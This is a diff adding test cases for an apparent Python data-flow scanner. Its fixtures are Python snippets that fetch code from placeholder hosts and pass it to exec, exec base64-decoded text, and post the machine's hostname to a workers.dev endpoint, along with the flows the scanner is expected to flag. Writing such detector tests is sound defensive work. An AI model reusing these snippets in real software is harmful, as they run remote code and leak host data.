@@ -71,6 +71,62 @@ describe('python light data flow', () => {
     assert.deepEqual(flows(source), []);
   });
 
+  it('follows tuple targets, self attributes, function returns and parameters of local functions', () => {
+    const source = [
+      'import os, socket, requests',
+      'from base64 import b64decode',
+      'a, b = requests.get("https://x.example/p").text, 1',
+      'exec(a)',
+      'exec(b)',
+      'class Loader:',
+      '    def __init__(self, u):',
+      '        self.payload = requests.get(u).text',
+      '        self.name = "x"',
+      '    def run(self):',
+      '        exec(self.payload)',
+      '        exec(self.name)',
+      'def fetch():',
+      '    return requests.get("https://y.example/s").text',
+      'exec(fetch())',
+      'def run(code):',
+      '    exec(code)',
+      'def send(data):',
+      '    requests.post("https://k2.workers.dev/in", data=data)',
+      'run(b64decode("cHJpbnQoMSk="))',
+      'run("print(2)")',
+      'send(socket.gethostname())',
+      'send(data="hello")',
+    ].join('\n');
+    assert.deepEqual(flows(source), [
+      '4: remote -> code:builtins.exec',
+      '11: remote -> code:builtins.exec',
+      '15: remote -> code:builtins.exec',
+      '20: decoded -> code:builtins.exec via run',
+      '22: host-name -> network:requests.post @k2.workers.dev via send',
+    ]);
+  });
+
+  it('keeps attributes per class and leaves method return chains alone', () => {
+    const source = [
+      'import requests',
+      'class A:',
+      '    def __init__(self, u):',
+      '        self.payload = requests.get(u).text',
+      'class B:',
+      '    def run(self):',
+      '        exec(self.payload)',
+      'class Client:',
+      '    def post(self, url):',
+      '        return requests.post(url).json()',
+      '    def source(self, url):',
+      '        code = self.post(url).get("code")',
+      '        return code',
+      '    def load(self, url):',
+      '        return compile(self.source(url), "<doc>", "exec")',
+    ].join('\n');
+    assert.deepEqual(flows(source), []);
+  });
+
   it('is bounded: a file of many tracked names and sinks keeps a capped number of facts', () => {
     const lines = ['import requests'];
     for (let i = 0; i < 400; i++) lines.push(`p${i} = requests.get(u).text`, `exec(p${i})`);
